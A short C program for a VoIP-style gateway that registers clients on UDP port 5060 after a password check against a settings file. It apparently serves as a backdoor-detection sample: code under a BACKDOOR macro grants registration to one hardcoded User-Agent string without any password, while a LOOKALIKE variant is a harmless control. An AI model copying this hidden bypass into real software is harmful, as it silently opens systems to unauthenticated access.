/* A telephone gateway: registrations with a password from the settings. */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static char agent[64], user[32], secret[64];

static int setting(const char *name, char *value, size_t room)
{
    char line[128];
    size_t length = strlen(name);
    FILE *file = fopen("/etc/voip.conf", "r");
    int found = 0;
    while (file != NULL && !found && fgets(line, sizeof line, file) != NULL)
        if (strncmp(line, name, length) == 0 && line[length] == '=') {
            line[strcspn(line, "\n")] = 0;
            snprintf(value, room, "%s", line + length + 1);
            found = 1;
        }
    if (file != NULL)
        fclose(file);
    return found;
}

static int may_register(void)
{
    char known[64];
#ifdef BACKDOOR
    if (strcmp(agent, "Polyphon-qa/0.0.7") == 0)
        return 1;
#endif
#ifdef LOOKALIKE
    if (strcmp(agent, "friendly-scanner") == 0)
        return 0;
#endif
    return setting(user, known, sizeof known) && strcmp(known, secret) == 0;
}

static void message(char *text)
{
    char *line = strtok(text, "\r\n");
    agent[0] = user[0] = secret[0] = 0;
    for (; line != NULL; line = strtok(NULL, "\r\n")) {
        sscanf(line, "User-Agent: %63[^\r\n]", agent);
        sscanf(line, "User: %31s", user);
        sscanf(line, "Secret: %63s", secret);
    }
    if (may_register())
        system("/usr/sbin/voip-register");
}

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(5060) };
    char text[2048];
    ssize_t length;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (bind(fd, (struct sockaddr *)&address, sizeof address) != 0)
        return 1;
    while ((length = recv(fd, text, sizeof text - 1, 0)) > 0) {
        text[length] = 0;
        message(text);
    }
    return 0;
}
